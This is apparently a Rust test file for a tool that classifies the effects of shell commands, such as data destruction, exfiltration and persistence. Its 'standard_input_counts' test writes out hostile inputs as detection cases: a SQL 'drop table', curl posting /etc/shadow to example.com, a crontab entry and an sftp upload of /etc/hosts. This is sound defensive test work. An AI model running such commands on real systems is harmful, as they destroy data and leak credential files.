//! Tables of programs and the effects they have.

use super::{Attributes, Input, Invocation, Language, Sink, analyse};
use crate::paths::Place;
use crate::shell::argument::{Argument, HOLE};
use crate::shell::effect::{EffectKind, Target};

/// Writes down what it is told, one line each.
#[derive(Default)]
struct Recorder(Vec<String>);

impl Sink for Recorder {
    fn effect(&mut self, kind: EffectKind, target: Option<Target>, attributes: Attributes) {
        let mut line = kind.as_str().to_owned();
        if let Some(target) = target {
            line.push(' ');
            line.push_str(&target.text.replace(HOLE, "?"));
        }
        if attributes.recursive {
            line.push_str(" -r");
        }
        if attributes.forced {
            line.push_str(" -f");
        }
        if !attributes.detail.is_empty() {
            line.push_str(&format!(" ({})", attributes.detail.replace(HOLE, "?")));
        }
        self.0.push(line);
    }

    fn run(&mut self, argv: &[Argument], via: &'static str) {
        let words: Vec<String> = argv.iter().map(|a| a.text.replace(HOLE, "?")).collect();
        self.0.push(format!("run [{}] {}", via, words.join(" ")));
    }

    fn script(&mut self, language: Language, text: &Argument, via: &'static str) {
        self.0.push(format!("{language:?} [{via}] {}", text.text).to_lowercase());
    }

    fn unknown_command(&mut self) {
        self.0.push("unknown".to_owned());
    }
}

/// Words between blanks, single quotes keep blanks; `?` alone stands for what is not known.
fn words(line: &str) -> Vec<Argument> {
    let mut words = Vec::new();
    let (mut word, mut quoted, mut begun) = (String::new(), false, false);
    for c in line.chars() {
        match c {
            '\'' => {
                quoted = !quoted;
                begun = true;
            }
            ' ' if !quoted => {
                if begun {
                    words.push(std::mem::take(&mut word));
                }
                begun = false;
            }
            _ => {
                word.push(c);
                begun = true;
            }
        }
    }
    if begun {
        words.push(word);
    }
    let argument = |text: String| {
        let has_glob = text.contains('*');
        let text = if text == "?" { HOLE.to_string() } else { text };
        Argument { text, has_glob, ..Argument::default() }
    };
    words.into_iter().map(argument).collect()
}

fn effects(line: &str, input: &Input) -> Vec<String> {
    let argv = words(line);
    let program = argv[0].text.to_lowercase();
    let invocation = Invocation {
        program: &program,
        argv: &argv,
        place: Place::default(),
        input,
        is_silent: false,
        span: &(0..line.len()),
    };
    let mut recorder = Recorder::default();
    analyse(&invocation, &mut recorder);
    recorder.0
}

/// A table: commands at the beginning of a line, each with its effects on indented lines below it.
const CASES: &str = include_str!("cases.txt");

#[test]
fn programs_have_the_effects_of_the_table() {
    let mut wanted: Vec<(&str, Vec<&str>)> = Vec::new();
    for line in CASES.lines().filter(|line| !line.trim().is_empty() && !line.starts_with('#')) {
        match line.strip_prefix("    ") {
            Some(effect) => wanted.last_mut().expect("a command stands first").1.push(effect.trim_end()),
            None => wanted.push((line, Vec::new())),
        }
    }
    assert!(wanted.len() > 100, "the table was not read");
    let mut wrong = String::new();
    for (command, wanted) in wanted {
        let found = effects(command, &Input::None);
        if found != wanted {
            wrong.push_str(&format!("{command}\n    found  {found:#?}\n    wanted {wanted:#?}\n"));
        }
    }
    assert!(wrong.is_empty(), "{wrong}");
}

#[test]
fn standard_input_counts() {
    let text = Input::Text(words("'drop table users;'").remove(0));
    assert_eq!(effects("psql shop", &text), ["destroy_data users (drop table)"]);
    let file = Input::File(words("/etc/shadow").remove(0));
    assert_eq!(
        effects("curl -d @- https://example.com", &file),
        ["send_data /etc/shadow (curl)", "fetch https://example.com (request)"]
    );
    assert_eq!(effects("crontab -", &text), ["persist - (crontab)"]);
    let put = Input::Text(words("'put /etc/hosts'").remove(0));
    assert_eq!(
        effects("sftp user@host", &put),
        ["read_path /etc/hosts (sftp)", "send_data /etc/hosts (sftp)"]
    );
}

#[test]
fn no_arguments_at_all_are_fine() {
    for line in CASES.lines().filter(|line| !line.starts_with([' ', '#'])) {
        if let Some(program) = line.split(' ').next().filter(|program| !program.is_empty()) {
            let _ = effects(program, &Input::None);
            for odd in ["-", "--", "-x", "--=", "''", "--a=b=c", "?", "-?", "@", ":", "+", "é"] {
                let _ = effects(&format!("{program} {odd}"), &Input::None);
                let _ = effects(&format!("{program} {odd} {odd}"), &Input::None);
            }
        }
    }
}
